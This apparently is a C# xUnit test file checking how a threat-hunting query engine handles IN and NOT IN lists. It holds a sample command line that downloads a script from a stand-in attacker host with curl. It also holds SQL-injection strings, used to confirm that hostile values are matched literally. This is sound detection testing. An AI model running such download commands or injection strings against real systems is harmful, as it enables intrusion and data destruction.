using System.Globalization;
using Xunit;
using static Osprey.Detection.Tests.Hunting.SampleEvents;

namespace Osprey.Detection.Tests.Hunting;

public sealed class InListTests : IDisposable
{
    private readonly HuntingTestDatabase _db = HuntingTestDatabase.WithSampleEvents();

    public void Dispose() => _db.Dispose();

    [Fact]
    public void In_MatchesAnyValueCaseInsensitively()
    {
        Assert.Equal(["e01", "e02", "e03", "e04"], _db.Match("ProcessName IN (\"CURL\", 'python3')"));
    }

    [Fact]
    public void NotIn_IsTheComplement_IncludingRowsWithoutTheValue()
    {
        Assert.Equal(AllExcept("e01", "e02", "e03", "e04"), _db.Match("ProcessName NOT IN (\"curl\", \"python3\")"));
        Assert.Equal(AllExcept("e01", "e02", "e03", "e04"), _db.Match("ProcessName !IN (\"curl\", \"python3\")"));
    }

    [Fact]
    public void In_WithEmptyString_MatchesMissingValues()
    {
        Assert.Equal(["e01", "e03", "e04", "e05", "e06", "e07", "e10", "e11"], _db.Match("CommandLine IN (\"\", \"curl -s http://evil.example/x.sh -o /tmp/x.sh\")"));
    }

    [Fact]
    public void In_OnIntegers_AcceptsNumericStrings()
    {
        Assert.Equal(["e01", "e03", "e05"], _db.Match("Pid IN (101, \"303\", 99999)"));
        Assert.Equal(["e02", "e04", "e06", "e07", "e08", "e09", "e10", "e11"], _db.Match("Pid NOT IN (101, 303)"));
    }

    [Fact]
    public void In_WithOneValue_EqualsEqual()
    {
        Assert.Equal(_db.Match("Host = \"db-01\""), _db.Match("Host IN (\"db-01\")"));
    }

    [Fact]
    public void In_WithDuplicates_MatchesOnce()
    {
        Assert.Equal(["e06"], _db.Match("RemotePort IN (443, 443, 443)"));
    }

    [Fact]
    public void In_WithTheMaximumOfValues_Runs()
    {
        var values = string.Join(", ", Enumerable.Range(0, 999).Select(i => "\"host-" + i.ToString(CultureInfo.InvariantCulture) + "\"").Append("\"DB-01\""));
        Assert.Equal(["e05", "e10", "e11"], _db.Match($"Host IN ({values})"));
        var numbers = string.Join(",", Enumerable.Range(1000, 1000).Select(i => i.ToString(CultureInfo.InvariantCulture)));
        Assert.Empty(_db.Match($"Pid IN ({numbers})"));
    }

    [Fact]
    public void In_PassesTheWholeListAsOneParameter()
    {
        var compiled = _db.Compiler.Compile("Host IN (\"a\", \"b\", \"c\") AND Pid IN (1, 2)");
        Assert.Equal(2, compiled.Parameters.Count);
        Assert.Equal("[\"a\",\"b\",\"c\"]", compiled.Parameters[0].Value);
        Assert.Equal("[1,2]", compiled.Parameters[1].Value);
    }

    [Fact]
    public void In_WithHostileValues_MatchesLiterally()
    {
        Assert.Equal(["e08"], _db.Match("CommandLine IN (\"\\\"; DROP TABLE events; --\", \"') OR 1=1 --\", \"]\")"));
        Assert.Equal(11, _db.CountRows());
    }
}
